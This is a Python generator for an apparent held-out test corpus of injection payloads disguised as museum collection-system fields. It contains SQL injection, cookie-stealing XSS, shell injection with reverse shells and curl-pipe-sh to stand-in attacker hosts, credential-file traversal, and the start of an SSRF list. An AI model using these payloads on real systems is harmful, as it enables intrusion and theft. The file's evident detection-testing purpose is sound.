"""Attack held-out corpus "museum": injection payloads hidden in the fields of
museum and archive collection-management systems.

Every payload is written for a vulnerable application that puts the value
where the class says, e.g.

  accession-*     accession number concatenated into SQL / a shell line
  object-*        object record field (title, date, dimensions)
  provenance-*    provenance note stored via INSERT / searched via LIKE
  catalogue-*     catalogue description rendered as HTML
  findaid-*       EAD finding-aid fragment (XML parser, XPath, XSLT)
  conservation-*  conservation report reference / attachment
  loan-*          loan agreement fields, loan-portal login, loan e-mails
  rights-*        rights statement URI / text (href, SQL UPDATE, fetcher)
  label-*         exhibition label text (HTML, JS string, template engine)
  iiif-*          IIIF identifier / manifest URL fetched or mapped to a path
  filename-*      digitisation file name passed to a shell, a path, a header
  search-*        collection search box (SQL, Solr, Mongo, reflected HTML)
  transcription-* transcription text (TEI rendered as HTML, logged, OCR jobs)
  plain-*         no domain wrapping

Class = <context>-<technique>[+<encoding>].  Hand-written literals plus a
few small templates over hand-written pools.  Attacker infrastructure only
uses attacker.example, 203.0.113.0/24 and 198.51.100.0/24; every secret is
a placeholder.  Output: attacks.jsonl next to this file, deterministic.
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 6902
PREFIX = "ha69"

# ---------------------------------------------------------------------------
# sqli
# ---------------------------------------------------------------------------
SQLI = [
    ("accession-tautology", "1987.45.3a-b' OR '1'='1"),
    ("accession-union", "1987.45.3a-b' UNION SELECT username, password_hash, NULL, NULL FROM staff_users-- -"),
    ("accession-time-blind", "2003.112.1-.14' AND SLEEP(6)-- x"),
    ("accession-stacked-drop", "1955.3.7'; DROP TABLE loan_agreements;--"),
    ("accession-error-extractvalue", "1987.45.3' AND EXTRACTVALUE(7311, CONCAT(0x5c, (SELECT GROUP_CONCAT(email) FROM staff_users)))-- -"),
    ("object-boolean-blind", "c. 1850-1860' AND (SELECT SUBSTRING(password_hash,1,1) FROM staff_users WHERE role='admin' LIMIT 1)='$' AND 'x'='x"),
    ("search-union-paren", "portrait') UNION ALL SELECT table_name, table_schema, NULL FROM information_schema.tables#"),
    ("object-numeric-tautology", "4471 OR 1=1"),
    ("object-numeric-stacked-pg", "4471; SELECT pg_sleep(8)--"),
    ("search-orderby-case", "date_made, (CASE WHEN (SELECT SUBSTR(password_hash,1,1) FROM staff_users WHERE username='registrar')='a' THEN date_made ELSE title END)"),
    ("accession-mssql-xpcmdshell", "1987.45.3'; EXEC master..xp_cmdshell 'powershell -c \"iwr http://attacker.example/a.ps1 | iex\"';--"),
    ("loan-mssql-waitfor", "L.1954/22'; IF (SELECT COUNT(*) FROM loans) > 0 WAITFOR DELAY '0:0:7';--"),
    ("provenance-oracle-union", "Christie' UNION SELECT NULL, banner, NULL FROM v$version--"),
    ("provenance-oracle-time", "Sotheby' || (SELECT CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE('x',6) ELSE NULL END FROM dual) || '"),
    ("search-sqlite-master", "earrings%' UNION SELECT name, sql, 1 FROM sqlite_master--"),
    ("findaid-pg-copy-program", "MS 1234/2/5'; COPY (SELECT 1) TO PROGRAM 'curl -s http://203.0.113.44/p | sh';--"),
    ("provenance-insert-subquery", "Gift of Mrs. Hale, 1974', (SELECT string_agg(username||':'||password_hash, ',') FROM staff_users))--"),
    ("accession-union+comment-space", "1987.45.3'/**/UNION/**/SELECT/**/username,password_hash,NULL/**/FROM/**/staff_users#"),
    ("accession-union+case", "1987.45.3' uNiOn SeLeCt NuLl, @@version, NuLl-- -"),
    ("accession-tautology+urlenc", "1987.45.3%27%20OR%201%3D1--%20"),
    ("search-union+urlenc2", "sampler%2527%2520UNION%2520SELECT%2520password_hash%252CNULL%2520FROM%2520staff_users--%2520"),
    ("accession-union+versioned-comment", "1987.45.3' /*!50000UNION*/ /*!50000SELECT*/ user(), database(), NULL-- -"),
    ("label-into-outfile+hex", "Gallery 12' UNION SELECT 0x3c3f70687020706870696e666f28293b203f3e, NULL INTO OUTFILE '/var/www/html/g12.php'-- -"),
    ("accession-boolean-ascii", "1987.45.3' AND ASCII(SUBSTRING((SELECT password_hash FROM staff_users LIMIT 1),2,1))>77-- -"),
    ("accession-benchmark", "1987.45.3' AND IF(1=1, BENCHMARK(8000000, SHA1('x')), 0)-- -"),
    ("conservation-oob-xp-dirtree", r"CR-2024-017'; EXEC master..xp_dirtree '\\cr.attacker.example\share';--"),
    ("conservation-oob-load-file", r"CR-2024-017' AND LOAD_FILE(CONCAT('\\\\', (SELECT password_hash FROM staff_users LIMIT 1), '.x.attacker.example\\a'))-- -"),
    ("rights-update-privesc", "CC BY 4.0', is_admin=1, role='admin' WHERE username='cataloguer1'-- -"),
    ("search-having-error", "brooch' HAVING 1=1--"),
    ("accession-mssql-convert-error", "1987.45.3' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("accession-pg-cast-error", "1987.45.3' AND 1=CAST((SELECT string_agg(usename, ',') FROM pg_user) AS int)--"),
    ("loan-stacked-insert", "L.2025.14'; INSERT INTO staff_users (username, password_hash, role) VALUES ('courier2', 'x', 'admin');--"),
    ("search-fielded-tautology", "title:portrait' OR 'a'='a"),
    ("object-date-union", "1850' AND '1'='1' UNION SELECT accession_no, insurance_value, lender_name FROM loans WHERE '1'='1"),
    ("accession-like-tautology", "1987.45.%' OR 1=1 OR accession_no LIKE '"),
    ("findaid-pg-sleep", "MS1234/3/2/7' AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL AND 'a'='a"),
    ("object-elt-sleep", "1987.45.3' AND ELT(1=1, SLEEP(5))-- -"),
    ("object-updatexml-error", "1987.45.3' AND UPDATEXML(1, CONCAT(0x7e, (SELECT @@datadir)), 1)-- -"),
    ("accession-escape-bypass", "1987.45.3\\' OR 1=1-- -"),
    ("accession-gbk-multibyte+urlenc", "1987.45.3%bf%27 OR 1=1-- -"),
    ("transcription-insert-multirow", "Pd. the sexton 1s.'), ((SELECT password_hash FROM staff_users WHERE username='admin'))-- -"),
    ("label-mssql-enable-xpcmdshell", "Gallery 4'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;--"),
    ("search-pg-dollar-quote", "sampler' AND (SELECT current_setting($$is_superuser$$))=$$on$$-- "),
    ("search-sqlite-load-extension", "netsuke' AND load_extension('/tmp/up/1987_45_3.so')--"),
    ("digitisation-sqlite-attach", "batch07'; ATTACH DATABASE '/var/www/html/b7.php' AS b7; CREATE TABLE b7.t (c TEXT); INSERT INTO b7.t VALUES ('<?php system($_GET[\"c\"]); ?>');--"),
    ("accession-oracle-utl-http", "1987.45.3' AND UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--"),
    ("accession-in-list", "1987.45.3','1987.45.4') OR 1=1 OR accession_no IN ('"),
    ("provenance-multiline-comment", "Bequest of Miss A. Fairweather'\n-- dealer note\nOR 1=1\n-- "),
    ("accession-hash-newline", "1987.45.3' #\nUNION SELECT username, password_hash, 3 FROM staff_users#"),
    ("object-tautology+tab", "1987.45.3'\tOR\t'1'='1"),
    ("accession-pipes-or", "1987.45.3' || 1#"),
    ("accession-no-space-paren", "1987.45.3'AND(SELECT(1)FROM(SELECT(SLEEP(5)))a)AND'1'='1"),
    ("conservation-limit-procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("rights-boolean-like", "http://rightsstatements.org/vocab/InC/1.0/' AND 1=(SELECT COUNT(*) FROM staff_users WHERE password_hash LIKE 'a%')-- -"),
    ("loan-numeric-sleep", "250000 AND (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("accession-tautology+fullwidth", "1987.45.3\uff07 OR \uff071\uff07=\uff071"),
    ("findaid-union+xmlent", "<unitid>MS1234&#39; UNION SELECT password_hash, NULL FROM staff_users--</unitid>"),
    ("accession-tautology+jsonesc", "1987.45.3\\u0027 OR 1=1-- "),
    ("accession-mssql-char-exec", "1987.45.3'; DECLARE @c VARCHAR(99)=CHAR(119)+CHAR(104)+CHAR(111)+CHAR(97)+CHAR(109)+CHAR(105); EXEC xp_cmdshell @c;--"),
    ("accession-pg-read-file+chr", "1987.45.3' UNION SELECT NULL, pg_read_file(CHR(47)||CHR(101)||CHR(116)||CHR(99)||CHR(47)||CHR(112)||CHR(97)||CHR(115)||CHR(115)||CHR(119)||CHR(100)), NULL--"),
    ("search-json-mysql", "kimono' AND JSON_EXTRACT(CONCAT('{\"a\":\"', (SELECT password_hash FROM staff_users LIMIT 1), '\"}'), '$.b') IS NULL AND SLEEP(4)-- -"),
    ("provenance-pg-stacked-role", "Galerie L'Oeil'; ALTER ROLE dams_web SUPERUSER;--"),
    ("loan-mssql-openrowset", "L.1998.3'; SELECT * FROM OPENROWSET('SQLOLEDB', 'server=203.0.113.61;uid=sa;pwd=placeholder', 'SELECT 1');--"),
    ("object-group-concat-union", "Sampler%' UNION SELECT GROUP_CONCAT(username, 0x3a, password_hash SEPARATOR 0x0a), 2, 3 FROM staff_users-- -"),
    ("search-mssql-stacked-update", "union banner'; UPDATE objects SET on_display=0, location='UNKNOWN';--"),
    ("transcription-second-order", "O'Brien' + (SELECT TOP 1 password_hash FROM staff_users) + '"),
    ("plain-tautology", "' OR 'x'='x' -- "),
    ("plain-comment-login", "admin'-- "),
    ("plain-paren-tautology", "') OR ('a'='a"),
    ("plain-orderby-probe", "1' ORDER BY 12-- -"),
    ("plain-dq-tautology", "\" OR \"\"=\""),
    ("plain-union-nulls", "' UNION SELECT NULL,NULL,NULL-- -"),
    ("plain-mssql-waitfor", "1; WAITFOR DELAY '0:0:5'--"),
    ("plain-pg-sleep", "' AND 1=(SELECT 1 FROM pg_sleep(4))--"),
    ("plain-mysql-sleep-hash", "1' AND SLEEP(5)#"),
]

SQLI_ACC = ["1987.45.3a-b", "2003.112.7", "1955.3.7", "L.1954/22", "1999.7", "2016.22",
            "1965.14", "1911.34", "MS1234/2/5/9"]
SQLI_TAILS = [
    ("union", "' UNION SELECT username, password_hash, NULL FROM staff_users-- -"),
    ("tautology", "' OR 'z'='z"),
    ("time-blind", "' AND SLEEP(5)-- -"),
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM staff_users)>3-- -"),
    ("stacked-update", "'; UPDATE staff_users SET role='admin' WHERE username='guest';--"),
    ("error-extractvalue", "' AND EXTRACTVALUE(1, CONCAT(0x7e, user()))-- -"),
]


def t_sqli(rng):
    acc = rng.choice(SQLI_ACC)
    tech, tail = rng.choice(SQLI_TAILS)
    return ("accession-%s" % tech, acc + tail)


# ---------------------------------------------------------------------------
# xss
# ---------------------------------------------------------------------------
XSS = [
    ("label-script-tag", "Pair of earrings, c. 1850 <script>fetch('https://attacker.example/c?'+encodeURIComponent(document.cookie))</script>"),
    ("catalogue-img-onerror", "Detail of the lower left: <img src=\"1987_45_3_detail.jpg\" onerror=\"location='https://attacker.example/?c='+document.cookie\">"),
    ("object-attr-breakout-dq", "Untitled (Blue / Green #3)\" onmouseover=\"alert(document.domain)"),
    ("label-attr-breakout-sq", "Gallery 12' autofocus onfocus='alert(document.cookie)' x='"),
    ("rights-javascript-uri", "javascript:alert(document.cookie)//http://rightsstatements.org/vocab/InC/1.0/"),
    ("rights-javascript-uri+case", "JaVaScRiPt:fetch('//attacker.example/r?'+document.cookie)"),
    ("rights-javascript-uri+tab", "java\tscript:alert(document.domain)"),
    ("rights-javascript-uri+htmlent", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.domain)"),
    ("catalogue-svg-onload", "Ground plan of the tomb: <svg onload=alert(document.domain)>"),
    ("label-svg-animate", "<svg><animate onbegin=\"alert(document.domain)\" attributeName=\"x\" dur=\"1s\"></svg>"),
    ("transcription-details-ontoggle", "[illegible] <details open ontoggle=\"fetch('//attacker.example/t?'+document.cookie)\">"),
    ("catalogue-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(parent.document.domain)&lt;/script&gt;\"></iframe>"),
    ("label-js-string-sq", "Gallery 9';alert(document.cookie);//"),
    ("label-js-script-close", "Arts of the Islamic World</script><script>alert(document.domain)</script>"),
    ("label-js-template-literal", "${fetch('//attacker.example/?'+document.cookie)}"),
    ("transcription-tei-handler", "<del>Tuesday</del> <add onmouseover=\"alert(document.domain)\">Wednesday</add> at 4 o'clock"),
    ("catalogue-markdown-js-link", "See the donor's letter [here](javascript:alert(document.cookie))"),
    ("iiif-manifest-label-html", "{\"label\": {\"en\": [\"Pair of earrings <img src=x onerror=alert(document.domain)>\"]}}"),
    ("label-angular-csti", "Curator's pick: {{constructor.constructor('alert(document.domain)')()}}"),
    ("search-reflected+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-attr-breakout", "\"><svg/onload=alert(document.domain)>"),
    ("catalogue-innerhtml+unicode-escape", "\\u003cimg src=x onerror=alert(document.domain)\\u003e"),
    ("catalogue-mxss-mathml", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(document.domain)&gt;\">"),
    ("label-input-autofocus", "<input autofocus onfocus=alert(document.domain)>"),
    ("label-video-source", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("catalogue-iframe-js-src", "<iframe src=\"javascript:parent.fetch('//attacker.example/?'+parent.document.cookie)\"></iframe>"),
    ("catalogue-script-data-uri+base64", "<script src=\"data:text/javascript;base64,YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ==\"></script>"),
    ("label-form-action", "<form action=\"javascript:alert(document.domain)\"><button>View in 3D</button></form>"),
    ("label-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/dams-login\">"),
    ("catalogue-base-href", "Scope note <base href=\"https://attacker.example/\">"),
    ("label-style-import", "<style>@import url(//attacker.example/steal.css);</style>"),
    ("label-marquee-onstart", "<marquee onstart=alert(document.domain)>Now open: Drop by Drop</marquee>"),
    ("object-textarea-breakout", "</textarea><script>alert(document.domain)</script>"),
    ("object-title-breakout", "Untitled</title><svg onload=alert(document.domain)>"),
    ("findaid-comment-breakout", "--><img src=x onerror=alert(document.domain)><!--"),
    ("findaid-cdata-breakout", "]]><script>alert(document.domain)</script><![CDATA["),
    ("search-attr-tagged-template", "\" autofocus onfocus=alert`1` x=\""),
    ("label-onerror-throw", "<img src=x onerror=\"window.onerror=alert;throw document.domain\">"),
    ("catalogue-href-js+htmlent-tab", "<a href=\"jav&#x09;ascript:alert(document.domain)\">letter</a>"),
    ("transcription-eval-atob+base64", "<img src=x:x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))>"),
    ("label-body-onpageshow", "<body onpageshow=alert(document.domain)>"),
    ("label-svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"20\" y=\"20\">Open IIIF viewer</text></a></svg>"),
    ("label-dom-clobbering", "<a id=iiifConfig></a><a id=iiifConfig name=scriptBase href=\"https://attacker.example/\"></a>"),
    ("label-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.domain)>\">"),
    ("iiif-homepage-javascript", "{\"homepage\": [{\"id\": \"javascript:alert(document.domain)\", \"type\": \"Text\", \"label\": {\"en\": [\"Object page\"]}}]}"),
    ("label-onanimationstart", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(document.domain)\">Gallery 9</p>"),
    ("transcription-unquoted-attr", "verso onmouseover=alert(document.domain) "),
    ("filename-reflected-img", "1987_45_3\"><img src=x onerror=alert(document.domain)>.tif"),
    ("label-handler-sq-breakout", "');alert(document.domain);('"),
    ("search-reflected+urlenc2", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(document.domain)%253E"),
    ("catalogue-href-js+htmlent-nosemi", "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(document.domain)\">provenance file</a>"),
    ("label-multi-context-breakout", "'\"--></style></script><svg onload=alert(document.domain)>"),
    ("label-docwrite+hexesc", "\\x3cscript\\x3ealert(document.domain)\\x3c/script\\x3e"),
    ("label-onclick-link", "<a href=\"#\" onclick=\"alert(document.domain)\">Read more about the Union banner</a>"),
    ("label-xhtml-namespace", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(document.domain)</x:script>"),
    ("label-popover-beforetoggle", "<button popovertarget=p>?</button><div id=p popover onbeforetoggle=alert(document.domain)>Tour times</div>"),
    ("search-json-script-close", "</script><svg onload=alert(document.domain)>"),
    ("transcription-script+case", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("catalogue-object-javascript", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("rights-dangling-markup", "\u00a9 the artist <img src='https://attacker.example/p.gif?page="),
    ("label-svg-set-href", "<svg><a><set attributeName=\"href\" to=\"javascript:alert(document.domain)\"/><text y=\"20\">Listen</text></a></svg>"),
    ("transcription-tei-hi-onclick", "<hi rend=\"italic\" onclick=\"alert(document.domain)\">sic</hi>"),
    ("catalogue-embed-js", "<embed src=\"javascript:alert(document.domain)\">"),
    ("plain-script-domain", "<script>alert(document.domain)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-confirm", "<svg/onload=confirm(1)>"),
    ("plain-body-onload", "<body onload=prompt(1)>"),
    ("plain-attr-breakout-script", "\"><script>alert(1)</script>"),
    ("plain-iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("plain-anchor-javascript", "<a href=javascript:alert(1)>click</a>"),
]

XSS_TEXT = ["Pair of earrings", "Gallery 12", "Drop by Drop", "Sampler, 1834",
            "Trade-union banner", "Tea bowl 'First Snow'", "Letters to Mamma",
            "Box 7, Folder 3"]
XSS_JS = ["alert(document.domain)",
          "fetch('//attacker.example/x?'+document.cookie)",
          "import('//attacker.example/m.js')",
          "navigator.sendBeacon('//attacker.example/b',localStorage.getItem('token'))",
          "document.location='//attacker.example/?'+btoa(document.cookie)"]
XSS_SHAPES = [
    ("img-onerror", "%s <img src=x onerror=\"%s\">"),
    ("svg-onload", "%s<svg onload=\"%s\">"),
    ("attr-breakout-dq", "%s\" autofocus onfocus=\"%s\" x=\""),
    ("details-ontoggle", "%s <details open ontoggle=\"%s\"></details>"),
]


def t_xss(rng):
    ctx = rng.choice(["label", "catalogue", "object", "transcription"])
    tech, shape = rng.choice(XSS_SHAPES)
    return ("%s-%s" % (ctx, tech), shape % (rng.choice(XSS_TEXT), rng.choice(XSS_JS)))


# ---------------------------------------------------------------------------
# cmdi
# ---------------------------------------------------------------------------
CMDI = [
    ("filename-semicolon-curl", "1987_45_3a-b_recto_001.tif; curl -s http://attacker.example/i.sh | sh"),
    ("filename-and-id", "MS1234_f012v_UV365nm.tif && id"),
    ("filename-pipe-netcat", "1955_3_7_front.tif | nc 203.0.113.7 4444 -e /bin/sh"),
    ("filename-subshell", "$(whoami)_recto_001.tif"),
    ("filename-backtick", "`id`_verso.jpg"),
    ("filename-newline", "IMG_0045.CR3\nwget -q http://198.51.100.23/x -O /tmp/x && sh /tmp/x"),
    ("filename-ifs", "ms1234.tif;cat${IFS}/etc/passwd"),
    ("filename-newline+urlenc", "IMG_0046.CR3%0aid"),
    ("filename-dev-tcp", "tape_017.mov; bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
    ("filename-or-ping-time", "tape_018.mov || ping -c 12 127.0.0.1"),
    ("filename-win-timeout", "B0001234.IIQ & timeout /t 10 &"),
    ("filename-win-type", "B0001235.IIQ | type C:\\Windows\\win.ini"),
    ("filename-powershell-iex", "scan_0042.tif & powershell -nop -c \"iwr http://attacker.example/p.ps1 -UseBasicParsing | iex\""),
    ("filename-tar-wildcard-arg", "--checkpoint=1 --checkpoint-action=exec=sh batch07.sh"),
    ("iiif-wget-arg-injection", "--output-document=/etc/cron.d/dams http://attacker.example/cron"),
    ("filename-imagemagick-delegate", "push graphic-context\nviewbox 0 0 64 64\nfill 'url(https://iiif.museum.example/x.jpg\"|curl http://attacker.example/m|sh\")'\npop graphic-context"),
    ("filename-sq-breakout", "1987.45.3'; id; echo '"),
    ("filename-dq-breakout", "1987.45.3\"; id; echo \""),
    ("filename-brace-expansion", "x.tif;{cat,/etc/shadow}"),
    ("filename-quote-split", "x.tif;c''at /e''tc/pa''ss''wd"),
    ("filename-glob-obfuscation", "x.tif;/???/c?t /???/p?ss??"),
    ("filename-printf-octal", "x.tif;$(printf '\\151\\144')"),
    ("filename-var-concat", "x.tif;a=wh;b=oami;$a$b"),
    ("filename-base64-pipe+base64", "x.tif;echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo|base64 -d|sh"),
    ("accession-mkdir-semicolon", "2003.112.1-.14;touch /tmp/pwned_by_accession"),
    ("iiif-host-semicolon", "iiif.museum.example;id"),
    ("iiif-host-subshell", "iiif.museum.example$(id>/tmp/o)"),
    ("findaid-xsltproc-param-breakout", "Harlow papers\" ; curl attacker.example/f | sh ; echo \""),
    ("conservation-pdf-backtick", "CR-2024-017.pdf`curl -d @/etc/passwd attacker.example`"),
    ("label-tts-subshell", "Welcome to Gallery 9 $(curl -s http://203.0.113.12/a | bash)"),
    ("transcription-ocr-lang-semicolon", "eng+lat; id"),
    ("filename-perl-open-pipe", "ls -la /var/dams |"),
    ("filename-ssh-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/s|sh dams-fs01"),
    ("findaid-git-upload-pack", "--upload-pack=touch /tmp/git_pwned"),
    ("search-find-exec-arg", "1987_45_3* -exec sh -c 'id > /tmp/f' ;"),
    ("loan-sendmail-arg", "registrar@citymuseum.example -X/var/www/html/log.php"),
    ("iiif-curl-output-arg", "https://iiif.museum.example/x.jpg -o /var/www/html/x.php"),
    ("filename-zip-tt-arg", "x.tif -T -TT=\"sh -c id\""),
    ("filename-win-dq-breakout", "scan.tif\" & whoami & \""),
    ("filename-win-certutil", "scan.tif | certutil -urlcache -f http://attacker.example/a.exe %TEMP%\\a.exe"),
    ("filename-win-caret", "scan.tif & w^h^o^a^m^i"),
    ("filename-powershell-subexpr", "$(Invoke-WebRequest http://attacker.example/ps -UseBasicParsing).Content.tif"),
    ("filename-env-exfil", "x.tif;env|curl -X POST --data-binary @- http://attacker.example/env"),
    ("filename-sleep-ifs", "x.tif$(sleep${IFS}7)"),
    ("filename-dns-exfil", "x.tif;nslookup $(whoami).cmd.attacker.example"),
    ("filename-python-reverse-shell", "x.tif;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.20\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("label-multiline-subshell", "Caption line one\n$(id)\nline three"),
    ("filename-brace-wget", "x.tif;{wget,http://198.51.100.7/k,-O,/tmp/k};sh</tmp/k"),
    ("filename-ansi-c-quote+hexesc", "x.tif;$'\\x69\\x64'"),
    ("filename-xxd-hex", "x.tif;echo 6964|xxd -r -p|sh"),
    ("filename-rev", "x.tif;echo di|rev|sh"),
    ("filename-tab-separator", "x.tif;cat\t/etc/passwd"),
    ("filename-input-redirect", "x.tif;cat</etc/passwd"),
    ("accession-background-amp", "1999.7 & sleep 10 #"),
    ("filename-semicolon+urlenc", "1955_3_7_front.tif%3Bcat%20%2Fetc%2Fpasswd"),
    ("filename-semicolon+urlenc2", "1955_3_7_front.tif%253Bid"),
    ("iiif-exiftool-djvu", "(metadata \"\\c${system('id')};\")"),
    ("filename-ffmpeg-concat-subshell", "tape_019.mov'; $(curl -s attacker.example/v|sh); echo '"),
    ("digitisation-rsync-e-arg", "-e sh -c 'id>/tmp/r' dams-fs01:/masters/"),
    ("conservation-lpr-newline", "CR-2024-017\r\ncurl http://198.51.100.40/z | sh"),
    ("filename-crontab-write", "x.tif; echo '* * * * * curl attacker.example/c|sh' | crontab -"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-passwd", "| cat /etc/passwd"),
    ("plain-and-whoami", "&& whoami"),
    ("plain-backtick-uname", "`uname -a`"),
    ("plain-subshell-hostname", "$(cat /etc/hostname)"),
    ("plain-sleep", "; sleep 10 ;"),
    ("plain-or-curl", "|| curl http://attacker.example/"),
    ("plain-newline-id", "\nid\n"),
]

CMDI_FILES = ["1987_45_3a-b_recto_001.tif", "MS1234_f001r.tif", "IMG_0451.CR3",
              "1955_3_7_front.jpg", "tape_020.mov", "HS_112_0001.tif", "B0001236.IIQ"]
CMDI_SEPS = [("semicolon", ";"), ("and", " && "), ("pipe", " | "), ("newline", "\n"),
             ("or", " || ")]
CMDI_CMDS = ["id", "curl -s http://attacker.example/d | sh", "cat /etc/passwd",
             "wget -qO- http://198.51.100.9/s | bash", "sleep 8", "uname -a > /tmp/u",
             "nc -e /bin/sh 203.0.113.77 9001"]


def t_cmdi(rng):
    sname, sep = rng.choice(CMDI_SEPS)
    return ("filename-%s" % sname, rng.choice(CMDI_FILES) + sep + rng.choice(CMDI_CMDS))


# ---------------------------------------------------------------------------
# traversal
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("filename-dotdot", "../../../../etc/passwd"),
    ("iiif-identifier-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("filename-folder-dotdot", "masters/2019/04/../../../../../../etc/shadow"),
    ("filename-nested-strip", "....//....//....//....//etc/passwd"),
    ("filename-backslash-win", "..\\..\\..\\..\\Windows\\win.ini"),
    ("filename-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("filename-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("filename-dotdot+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("filename-slash+overlong", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("filename-dotdot+u-enc", "%u002e%u002e%u2215%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("conservation-absolute-dotdot", "/var/www/dams/../../../root/.ssh/id_rsa"),
    ("filename-dotdot+nullbyte", "../../../../etc/passwd%00.tif"),
    ("filename-absolute-win", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("filename-proc-environ", "../../../../proc/self/environ"),
    ("filename-proc-cmdline", "/proc/self/cmdline"),
    ("filename-proc-fd", "../../../../../proc/self/fd/7"),
    ("label-template-settings", "../../app/config/settings.py"),
    ("label-template-dotenv", "../../../.env"),
    ("filename-aws-credentials", "../../../../home/dams/.aws/credentials"),
    ("iiif-tomcat-path-param", "iiif/..;/..;/WEB-INF/web.xml"),
    ("filename-zipslip", "batch07/../../../../var/www/html/shell.jsp"),
    ("findaid-stylesheet-dotdot", "../../../../usr/local/etc/dams/secrets.yml"),
    ("label-lang-log-include", "../../../../../var/log/nginx/access.log"),
    ("iiif-identifier-win-dotdot", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("filename-mixed-separators", "..\\/..\\/..\\/..\\/etc/passwd"),
    ("filename-dot-segments", "/dams/masters/./.././.././../etc/passwd"),
    ("filename-dotdot+fullwidth", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"),
    ("filename-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("filename-backslash+urlenc2", "..%255c..%255c..%255cboot.ini"),
    ("filename-auth-log", "../../../../../../var/log/auth.log"),
    ("iiif-apache-dot-encoded+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("label-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("filename-absolute", "/etc/passwd"),
    ("filename-double-slash-absolute", "//etc/shadow"),
    ("filename-pg-hba", "../../../../../../var/lib/postgresql/data/pg_hba.conf"),
    ("filename-nginx-conf", "../../../../../../etc/nginx/nginx.conf"),
    ("filename-strip-once", "..././..././..././etc/passwd"),
    ("accession-folder-write", "1987_45_3/../../../../../var/www/html"),
    ("filename-dotslash-mix", "./.././../.././../etc/passwd"),
    ("iiif-url-dotdot+urlenc", "https://iiif.museum.example/iiif/2/..%2f..%2f..%2f..%2fopt%2fcantaloupe%2fcantaloupe.properties/full/max/0/default.jpg"),
    ("filename-win-strip-once", "...\\.\\...\\.\\...\\.\\windows\\win.ini"),
    ("filename-images-proc-version", "images/../../../../../proc/version"),
    ("conservation-attachment-shadow", "/dams/../../../etc/shadow"),
    ("digitisation-derivative-ssh-key", "../access/../../../../home/dams/.ssh/id_ed25519"),
    ("findaid-ead-export-git-config", "exports/../../.git/config"),
    ("filename-win-unc-local", "\\\\?\\C:\\Windows\\win.ini"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-boot-ini", "..\\..\\..\\boot.ini"),
    ("plain-sam", "../../../../windows/system32/config/sam"),
    ("plain-etc-hosts", "/etc/hosts"),
    ("plain-win-boot-absolute", "C:\\boot.ini"),
]

TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history",
                "var/www/dams/.env", "etc/ssl/private/dams.key", "windows/win.ini"]
TRAV_CTX = ["filename", "iiif-identifier", "conservation-attachment", "label-template"]


def t_traversal(rng):
    depth = rng.randint(3, 9)
    target = rng.choice(TRAV_TARGETS)
    ctx = rng.choice(TRAV_CTX)
    r = rng.random()
    if r < 0.3:
        return ("%s-dotdot+urlenc" % ctx, "%2e%2e%2f" * depth + quote(target, safe=""))
    if r < 0.45:
        return ("%s-dotdot-backslash" % ctx, "..\\" * depth + target.replace("/", "\\"))
    return ("%s-dotdot" % ctx, "../" * depth + target)


# ---------------------------------------------------------------------------
# ssrf
# ---------------------------------------------------------------------------
SSRF = [
    ("iiif-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
